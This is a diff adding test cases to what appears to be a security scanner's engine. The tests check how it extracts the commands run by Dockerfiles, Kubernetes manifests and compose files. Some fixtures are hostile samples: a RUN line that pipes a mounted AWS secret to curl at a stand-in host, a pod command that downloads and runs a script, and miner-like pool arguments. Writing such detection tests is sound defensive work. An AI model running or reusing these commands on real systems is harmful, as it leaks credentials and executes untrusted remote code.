@@ -7,7 +7,7 @@ import { MAX_DECODED, decodeBase64, decodeBase64Compressed, decodeHex, printf, r
 import { decodeEscapes } from '../src/engine/shell/escapes.js';
 import { expandBraces } from '../src/engine/shell/braces.js';
 import { clientQueries } from '../src/engine/knowledge/sql-clients.js';
-import { plistProgram } from '../src/engine/shell/persisted-text.js';
+import { containerCommands, containerSpecFile, dockerfileCommands, plistProgram } from '../src/engine/shell/persisted-text.js';
 import { withPositional } from '../src/engine/shell/positional.js';
 import { MIN_BLOB, emailAddresses, encodedBlob } from '../src/engine/knowledge/payloads.js';
 
@@ -149,6 +149,35 @@ describe('launchd plists', () => {
     expect(plistProgram('[Service]\nExecStart=/bin/true')).toBeUndefined();
     // an unterminated array yields nothing rather than reading past it
     expect(plistProgram(plist('<key>ProgramArguments</key><array><string>/bin/sh</string>').replace('</dict></plist>', ''))).toBeUndefined();
+  });
+});
+
+describe('container specs', () => {
+  it('knows Dockerfiles, manifests and compose files by name', () => {
+    expect(containerSpecFile('Dockerfile')).toBe('dockerfile');
+    expect(containerSpecFile('deploy/Dockerfile.prod')).toBe('dockerfile');
+    expect(containerSpecFile('images/api.dockerfile')).toBe('dockerfile');
+    expect(containerSpecFile('k8s/pod.yaml')).toBe('manifest');
+    expect(containerSpecFile('docker-compose.yml')).toBe('manifest');
+    expect(containerSpecFile('src/Dockerfile.ts')).toBeUndefined();
+    expect(containerSpecFile('README.md')).toBeUndefined();
+  });
+
+  it('reads what a Dockerfile runs: continued RUN lines, BuildKit flags dropped, exec forms as argv', () => {
+    const text = 'FROM alpine\n# RUN not-this\nRUN --mount=type=secret,id=aws --network=none \\\n    cat /run/secrets/aws \\\n    # a comment inside\n    | curl -d @- https://x.example\nRUN <<EOF\necho heredoc\nEOF\nCMD ["node", "server.js"]\nENTRYPOINT /bin/sh -c "exec app"\n';
+    expect(dockerfileCommands(text)).toEqual(['cat /run/secrets/aws  | curl -d @- https://x.example', ['node', 'server.js'], '/bin/sh -c "exec app"']);
+    // a broken exec form is read as a line rather than dropped
+    expect(dockerfileCommands('CMD ["node", "a.js"')).toEqual(['["node", "a.js"']);
+  });
+
+  it('reads what a manifest or compose file runs: command with its args, flow and block lists, block scalars, compose lines', () => {
+    const pod = 'spec:\n  containers:\n    - name: a\n      image: alpine\n      command: ["sh", "-c",\n        "echo \\"hi\\" && sleep 1"]\n      args: [\'--x\', y]\n    - name: b\n      command:\n        - /bin/sh\n        - -c\n        - |\n          curl -s https://x.example/a\n          sh a\n      args:\n      - --verbose\n    - name: c\n      args: ["-o", "pool:4444"]\n';
+    expect(containerCommands(pod)).toEqual([['sh', '-c', 'echo "hi" && sleep 1', '--x', 'y'], ['/bin/sh', '-c', 'curl -s https://x.example/a\nsh a', '--verbose']]);
+    expect(containerCommands('services:\n  w:\n    image: x\n    command: python manage.py runserver\n    entrypoint: "sh -c \'x\'"\n')).toEqual(['python manage.py runserver', "sh -c 'x'"]);
+    expect(containerCommands('jobs:\n  - command: |\n      make test\n      make lint\n')).toEqual(['make test\nmake lint']);
+    // nested collections in a flow list are not a command
+    expect(containerCommands('command: [{a: 1}]\n')).toEqual([]);
+    expect(containerCommands('command: ["unterminated\n')).toEqual([]);
   });
 });
 
